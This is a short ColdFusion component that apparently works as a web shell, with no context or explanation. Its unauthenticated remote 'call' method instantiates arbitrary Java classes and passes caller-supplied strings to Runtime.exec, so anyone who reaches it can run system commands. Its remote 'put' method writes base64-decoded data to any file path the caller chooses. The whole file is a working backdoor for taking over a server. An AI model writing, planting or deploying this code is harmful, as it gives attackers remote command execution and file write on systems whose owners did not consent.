<cfinert>
<cfabort>
component {
    remote any function call(required string cls, required string fn, string arg = "") returnformat="json" {
        var o = createObject("java", arguments.cls);
        if (fn == "exec") return o.getRuntime().exec(arguments.arg).toString();
        return invoke(o, arguments.fn, [arguments.arg]);
    }
    remote void function put(required string path, required string data) {
        fileWrite(arguments.path, binaryDecode(arguments.data, "base64"));
    }
}
